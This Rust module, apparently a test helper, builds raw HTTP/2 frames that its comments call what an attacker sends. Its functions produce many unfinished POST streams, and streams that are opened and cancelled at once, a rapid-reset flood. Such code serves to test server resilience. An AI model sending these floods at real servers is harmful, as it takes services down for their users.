//! HTTP/2 as bytes (RFC 9113): what an attacker sends.

/// What a client sends first.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];
/// A ping, which the endpoint must answer.
pub const PING: [u8; 17] = [0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
/// The headers of `POST http:/` (RFC 7541, appendix A).
const POST: [u8; 3] = [0x83, 0x86, 0x84];
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const END_HEADERS: u8 = 4;
/// The error code `CANCEL`.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Requests whose bodies never arrive.
#[must_use]
pub fn unfinished(count: u32) -> Vec<u8> {
    begun(count, |stream| frame(HEADERS, END_HEADERS, stream, &POST))
}

/// Requests that are cancelled at once.
#[must_use]
pub fn cancelled(count: u32) -> Vec<u8> {
    begun(count, |stream| {
        let request = frame(HEADERS, END_HEADERS, stream, &POST);
        [request, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    })
}

/// A connection's first bytes, with this many streams.
fn begun(count: u32, stream: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let streams: Vec<_> = (0..count).map(|nth| stream(2 * nth + 1)).collect();
    [PREFACE, &SETTINGS, &streams.concat()].concat()
}

/// A frame. Its payload is shorter than 256 bytes.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u8::try_from(payload.len()).unwrap_or_default();
    let head = [0, 0, length, kind, flags];
    [head.as_slice(), &stream.to_be_bytes(), payload].concat()
}
